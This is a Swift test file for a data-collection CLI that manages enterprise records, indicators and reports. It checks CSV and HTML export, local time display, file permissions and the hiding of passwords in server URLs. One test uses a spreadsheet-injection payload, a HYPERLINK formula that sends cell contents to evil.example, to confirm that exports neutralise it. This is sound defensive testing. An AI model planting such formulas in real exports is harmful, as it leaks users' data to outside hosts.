import FieldReplica
import FieldSyncCore
import Foundation
import Testing

/// The remaining commands' happy paths, and the report formats as files.
struct MoreCLITests {
    @Test func listsShowsDeletesAndSettings() throws {
        let cli = try CLI()
        try cli.ok("init", "--replica-name", "王芳的笔记本")
        let c = try cli.ok("commissioner", "add", "--name", "王芳", "--phone", "13700000003")
        #expect(try cli.run(["commissioner", "list", "--json"]).array.first?["name"] as? String == "王芳")
        #expect(try cli.run(["commissioner", "list"]).stdout.contains("王芳"))
        let e = try cli.ok("enterprise", "add", "--name", "天工新材料有限公司", "--credit-code", CreditCode.make(31), "--commissioner", c)
        let n = try cli.ok("need", "raise", "--enterprise", e, "--category", "talent", "--summary", "引进博士")
        try cli.ok("need", "delete", n)
        #expect(try cli.run(["need", "list", "--json"]).array.isEmpty)
        let p = try cli.ok("project", "add", "--enterprise", e, "--name", "新型陶瓷材料", "--level", "national", "--start", "2026-01-01", "--end", "2027-12-31", "--funds", "1200")
        let projects = try cli.run(["project", "list", "--json"]).array
        #expect(projects.first?["id"] as? String == p)
        #expect(projects.first?["funds"] as? Double == 1200)
        try cli.ok("config", "set", "server", "http://127.0.0.1:9")
        #expect(try cli.ok("config", "get", "server") == "http://127.0.0.1:9")
        let windows = try cli.run(["round", "show", "2026"]).stdout
        #expect(windows.contains("2026-2  2026-05-01  2026-08-31"))
        #expect(try cli.run(["conflicts", "show", e]).stdout.contains("no conflicts"))
        let history = try cli.run(["history", e, "--json"]).array
        #expect(history.first?["author"] as? String == "王芳的笔记本")
    }

    @Test func indicatorsImportFromCSVAndFeedTheRanking() throws {
        let cli = try CLI(now: "2026-06-01T00:00:00Z")
        try cli.ok("init", "--replica-name", "办公室")
        let code1 = CreditCode.make(41)
        let code2 = CreditCode.make(42)
        try cli.ok("enterprise", "add", "--name", "甲科技", "--credit-code", code1, "--pool", "sme")
        try cli.ok("enterprise", "add", "--name", "乙科技", "--credit-code", code2, "--pool", "sme")
        let csv = cli.dir.appendingPathComponent("indicators.csv")
        try Data("统一社会信用代码,年度,研发投入占比,营收增长率,知识产权数,科技人员占比\n\(code1),2026,8.5%,0.30,12,0.4\n乙科技,2026,0.02,0.10,3,0.2\n".utf8).write(to: csv)
        #expect(try cli.ok("indicator", "import", csv.path) == "added 2, updated 0, rejected 0")
        let ranking = try cli.run(["report", "ranking", "--year", "2026", "--format", "json"]).object
        let rows = (ranking["sections"] as? [String: Any])?["sme"] as? [[String: Any]] ?? []
        #expect(rows.map { $0["enterprise"] as? String } == ["甲科技", "乙科技"])
        let bad = cli.dir.appendingPathComponent("bad.csv")
        try Data("credit_code,year,rd_ratio\n\(code1),2026,abc\n".utf8).write(to: bad)
        try cli.refused(["indicator", "import", bad.path], exit: 65, naming: "line 2")
    }

    @Test func reportsWriteCSVWithABOMAndSelfContainedHTML() throws {
        let cli = try CLI(now: "2026-06-01T00:00:00Z")
        try cli.ok("init", "--replica-name", "办公室")
        let c = try cli.ok("commissioner", "add", "--name", "张伟")
        let e = try cli.ok("enterprise", "add", "--name", "深圳市星河科技有限公司", "--credit-code", CreditCode.make(51), "--pool", "high-tech", "--commissioner", c)
        try cli.ok("visit", "record", "--enterprise", e, "--commissioner", c, "--date", "2026-06-01", "--satisfaction", "5")
        let csvPath = cli.dir.appendingPathComponent("coverage.csv").path
        try cli.ok("report", "coverage", "--year", "2026", "--format", "csv", "--lang", "zh", "--output", csvPath)
        let csv = try #require(FileManager.default.contents(atPath: csvPath))
        #expect(Array(csv.prefix(3)) == [0xEF, 0xBB, 0xBF])
        #expect(String(decoding: csv, as: UTF8.self).contains("张伟,1,1,1,100.0%"))
        let htmlPath = cli.dir.appendingPathComponent("commissioners.html").path
        try cli.ok("report", "commissioners", "--year", "2026", "--format", "html", "--lang", "en", "--output", htmlPath)
        let html = String(decoding: try #require(FileManager.default.contents(atPath: htmlPath)), as: UTF8.self)
        #expect(html.contains("<svg"))
        #expect(html.contains("Commissioner performance 2026"))
        #expect(!html.contains("http://") || html.components(separatedBy: "http://").count == 2)  // only the SVG namespace
        #expect(!html.contains("https://") && !html.contains("<script") && !html.contains("<link"))
        try cli.refused(["report", "salaries"], exit: 65, naming: "salaries")
        try cli.refused(["report", "needs", "--format", "pdf"], exit: 64, naming: "pdf")
    }

    /// Synced text that a spreadsheet would run as a formula stays text in the office's CSV
    /// (issue 24, finding 7), numbers stay numbers, and the files FieldSync creates are the
    /// owner's only (finding 11).
    @Test func csvCellsAFormulaWouldRunStayTextAndFilesAreTheOwnersOnly() throws {
        let cli = try CLI(now: "2026-06-01T00:00:00Z")
        try cli.ok("init", "--replica-name", "办公室")
        let evil = #"=HYPERLINK("http://evil.example/?leak="&C5,"x")"#
        try cli.ok("enterprise", "add", "--name", evil, "--credit-code", CreditCode.make(61), "--pool", "sme")
        try cli.ok("enterprise", "add", "--name", "＋全角加号科技", "--credit-code", CreditCode.make(62), "--pool", "sme")
        try cli.ok("enterprise", "add", "--name", "@提及科技", "--credit-code", CreditCode.make(63), "--pool", "sme")
        let csv = cli.dir.appendingPathComponent("indicators.csv")
        try Data("统一社会信用代码,年度,研发投入占比,营收增长率,知识产权数,科技人员占比\n\(CreditCode.make(61)),2026,0.05,-0.10,2,0.3\n\(CreditCode.make(62)),2026,0.04,0.1,1,0.2\n\(CreditCode.make(63)),2026,0.03,0.2,1,0.2\n".utf8).write(to: csv)
        try cli.ok("indicator", "import", csv.path)
        let out = cli.dir.appendingPathComponent("ranking.csv").path
        try cli.ok("report", "ranking", "--year", "2026", "--format", "csv", "--lang", "zh", "--output", out)
        let text = String(decoding: try #require(FileManager.default.contents(atPath: out)), as: UTF8.self)
        let cells = text.split(whereSeparator: { $0 == "\r\n" || $0 == "\n" }).flatMap { $0.split(separator: ",") }.map(String.init)
        #expect(text.contains("\"'=HYPERLINK(\"\"http://evil.example/"), "\(text)")
        #expect(cells.contains("'＋全角加号科技") && cells.contains("'@提及科技"), "\(text)")
        #expect(!cells.contains { $0.hasPrefix("=") || $0.hasPrefix("\"=") || $0.hasPrefix("@") || $0.hasPrefix("＋") }, "\(text)")
        for path in [out, cli.db] {
            let mode = (try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? NSNumber)?.intValue ?? -1
            #expect(mode == 0o600, "\(path) is \(String(mode, radix: 8))")
        }
    }

    /// A server address with a user and password is never shown (issue 24, finding 14).
    @Test func aServerURLsPasswordIsNeverShown() throws {
        let cli = try CLI()
        try cli.ok("init", "--replica-name", "笔记本")
        let r = try cli.run(["sync", "--server", "http://alice:s3cret-pass@127.0.0.1:1", "--token", "t", "--retries", "1"])
        #expect(r.status != 0)
        #expect(!r.stderr.contains("s3cret") && !r.stdout.contains("s3cret"), "\(r.stderr)")
        #expect(r.stderr.contains("127.0.0.1:1"), "\(r.stderr)")
    }

    /// A need raised at 18:30 local time shows 18:30 (with its offset) in the needs report's
    /// table, CSV and HTML, and UTC in JSON (issue 26, item 1).
    @Test func reportTimesAreLocalWhereAPersonReadsThem() throws {
        let cli = try CLI(now: "2026-03-13T10:30:00Z")
        try cli.ok("init", "--replica-name", "办公室")
        try cli.ok("setting", "set", "time.utc_offset", "8")
        let e = try cli.ok("enterprise", "add", "--name", "星河科技", "--credit-code", CreditCode.make(131))
        let n = try cli.ok("need", "raise", "--enterprise", e, "--category", "政策", "--summary", "周五晚上提出的诉求")
        cli.now = "2026-03-16T02:00:00Z"
        try cli.ok("need", "update", n, "--status", "acknowledged")
        let local = "2026-03-13 18:30:00 +08:00"
        for format in ["table", "csv", "html"] {
            let out = try cli.run(["report", "needs", "--year", "2026", "--format", format]).stdout
            #expect(out.contains(local) && !out.contains("10:30:00Z"), "\(format): \(out.prefix(2000))")
        }
        let json = try cli.run(["report", "needs", "--year", "2026", "--format", "json"]).stdout
        #expect(json.contains("2026-03-13T10:30:00Z") && !json.contains(local), "\(json)")
    }
}
